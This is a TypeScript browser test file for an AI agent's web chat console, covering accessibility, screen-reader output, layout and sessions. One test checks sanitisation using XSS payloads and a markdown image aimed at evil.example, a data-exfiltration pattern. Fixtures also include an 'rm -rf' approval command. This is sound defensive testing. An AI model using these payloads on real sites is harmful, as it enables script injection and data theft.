import { readFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import type { AxeResults } from 'axe-core';
import type { BrowserContextOptions } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { useConsoleStage } from '../support/console-stage.ts';
import { eventually } from '../support/eventually.ts';
import type { ConsolePage } from '../support/page.ts';

const stage = useConsoleStage({ standIn: true });
const axeSource = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');

/** What axe finds wrong, by WCAG and by its own best practices. */
async function faults({ page }: ConsolePage): Promise<string[]> {
  // Through the debugger: the page's policy lets no script in.
  await page.evaluate(axeSource);
  const results = await page.evaluate(() => (window as unknown as { axe: { run(): Promise<AxeResults> } }).axe.run());
  return results.violations.flatMap(({ id, nodes }) =>
    nodes.map((node) => `${id}: ${node.html} ${node.failureSummary}`),
  );
}

async function expectWidth(console: ConsolePage, width: number): Promise<void> {
  expect(await console.page.evaluate(() => document.documentElement.scrollWidth)).toBe(width);
}

/** A conversation with one of everything. */
async function fill(console: ConsolePage): Promise<void> {
  const { crew } = stage;
  await console.say('Show me everything');
  const key = await stage.keyOf(console);
  await console.message('Show me everything').waitFor();
  const running = { output: 'line\n'.repeat(40), detail: 'find / -name "*.log" -newer /etc/passwd -print -quit' };
  await crew.activity(key, { ...running, status: 'failed' });
  await crew.activity(key, { ...running, status: 'running' });
  await crew.say(key, '# Heading\n\nA [link](https://example.com), `code`\n\n- [x] done\n- [ ] open\n\n> quoted');
  await crew.say(
    key,
    '| a | b |\n| - | - |\n| 1 | 2 |\n\n```ts\nconst long = "x".repeat(10); // more than a phone has room for\n```',
  );
  await crew.say(key, `A word without an end: ${'abcdefghij'.repeat(30)}`);
  const decided = await crew.approval(key, {});
  const by = { id: 'ben', name: 'Ben' };
  await decided({ state: { status: 'denied', by, at: new Date().toISOString(), reason: 'No', via: 'web' } });
  await crew.approval(key, { detail: `rm -rf ${'/very/long/path'.repeat(20)}` });
  const signal = AbortSignal.timeout(5_000);
  await stage.server.connector.whisper(key, { id: 'ana', name: 'Ana' }, 'Only for you', signal);
  const notice = { kind: 'notice', level: 'error', agent_name: 'Deckhand' } as const;
  const markdown = 'The budget is used up.';
  await stage.server.connector.post(key, { ...notice, delivery_id: 'dlv_notice', markdown }, signal);
  await crew.status(key, 'Running a command…');
  await console.message('budget is used up').waitFor();
}

const PHONE = { colorScheme: 'light', viewport: { width: 360, height: 700 }, hasTouch: true, isMobile: true } as const;

const views: [string, BrowserContextOptions][] = [
  ['light', { colorScheme: 'light' }],
  ['dark', { colorScheme: 'dark' }],
  ['phone', PHONE],
];

describe('the page is for everybody', () => {
  it.each(views)('has no fault axe can find, %s', async (_name, options) => {
    const ana = await stage.visit('/', options);
    await ana.page.getByLabel('Your name').waitFor();
    expect(await faults(ana)).toEqual([]);
    await ana.signIn('Ana');
    expect(await faults(ana)).toEqual([]);
    await fill(ana);
    await ana.activities
      .first()
      .getByRole('button', { name: /Run a command/ })
      .click();
    await ana.approvals.last().getByRole('button', { name: 'Deny…' }).click();
    expect(await faults(ana)).toEqual([]);
    await expectWidth(ana, options.viewport?.width ?? 1_200);
  });

  it('tells a screen reader whole replies, and what waits for a decision', async () => {
    const ana = await stage.enter('Ana');
    await ana.say('Hello');
    const key = await stage.keyOf(ana);
    await ana.message('Hello').waitFor();
    const announcer = ana.page.getByTestId('announcer');
    const reply = await stage.crew.stream(key, 'One');
    await reply.more(' two');
    await ana.message('One two').waitFor();
    expect(await announcer.textContent()).toBe('');
    await reply.end(' three.');
    await announcer.filter({ hasText: 'Deckhand: One two three.' }).waitFor({ state: 'attached' });
    await stage.crew.approval(key, { summary: 'Delete it' });
    await announcer.filter({ hasText: 'Approval needed: Delete it' }).waitFor({ state: 'attached' });
  });

  it('keeps its list in a drawer on a phone, which the keyboard cannot fall into', async () => {
    const ana = await stage.enter('Ana', PHONE);
    await ana.say('On the road');
    await ana.message('On the road').waitFor();
    await expectWidth(ana, 360);
    const entry = ana.page.getByRole('link', { name: /On the road/ });
    const open = ana.page.getByRole('button', { name: 'Conversations' });
    expect(await entry.count()).toBe(0);
    await open.click();
    await entry.waitFor();
    expect(await faults(ana)).toEqual([]);
    await ana.page.keyboard.press('Escape');
    await eventually(async () => expect(await entry.count()).toBe(0));
    await eventually(async () => expect(await open.evaluate((button) => button === document.activeElement)).toBe(true));
    await open.click();
    await ana.page.getByRole('link', { name: 'New conversation' }).click();
    await ana.page.getByRole('heading', { name: /What needs doing/ }).waitFor();
    expect(await entry.count()).toBe(0);
  });

  it('follows the system’s colours until told otherwise, and remembers', async () => {
    const ana = await stage.enter('Ana', { colorScheme: 'dark' });
    const ground = () => ana.page.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
    const dark = await ground();
    await ana.page.emulateMedia({ colorScheme: 'light' });
    const light = await ground();
    expect(light).not.toBe(dark);
    await ana.page.getByRole('button', { name: /Colours: as the system/ }).click();
    await ana.page.getByRole('button', { name: /Colours: light/ }).click();
    expect(await ground()).toBe(dark);
    await ana.page.reload();
    await ana.page.getByRole('button', { name: /Colours: dark/ }).waitFor();
    expect(await ground()).toBe(dark);
  });

  it('says that a stand-in answers', async () => {
    const ana = await stage.enter('Ana');
    await ana.page.getByTestId('stand-in').filter({ hasText: 'not Claude: set ANTHROPIC_API_KEY' }).waitFor();
  });

  it('draws nothing a model wrote but words and links, and asks nobody else for anything', async () => {
    const ana = await stage.enter('Ana');
    const asked: string[] = [];
    ana.page.on('request', (request) => asked.push(new URL(request.url()).origin));
    await ana.say('Surprise me');
    const key = await stage.keyOf(ana);
    await stage.crew.say(
      key,
      [
        'Careful <img src=x onerror="document.title=1"> <script>document.title=2</script>',
        '[a](javascript:alert(1)) ![secret](https://evil.example/?s=1)',
      ].join('\n'),
    );
    const reply = ana.message('Careful');
    await reply.waitFor();
    expect(await reply.locator('.text').locator('img, script').count()).toBe(0);
    const links = await reply.getByRole('link').evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(links.filter(Boolean)).toEqual(['https://evil.example/?s=1']);
    await eventually(async () => expect(await ana.page.title()).toContain('Surprise me'));
    expect(new Set(asked)).toEqual(new Set([stage.server.url]));
  });

  it('says in words that an address leads nowhere', async () => {
    stage.expectComplaints(/404/);
    const ana = await stage.enter('Ana');
    await ana.goto(`/c/conv_${'0'.repeat(32)}`);
    await ana.page.getByText('There is no conversation at this address.').waitFor();
  });

  it('returns to the sign-in when the session has ended, and comes back to the same place', async () => {
    stage.expectComplaints(/401/);
    const ana = await stage.enter('Ana');
    await ana.say('Remember this place');
    const { thread } = await stage.keyOf(ana);
    await ana.message('Remember').waitFor();
    await ana.page.context().clearCookies();
    await ana.page.reload();
    await ana.signIn('Ana');
    await ana.message('Remember this place').waitFor();
    expect(await ana.conversationId()).toBe(thread);
  });
});
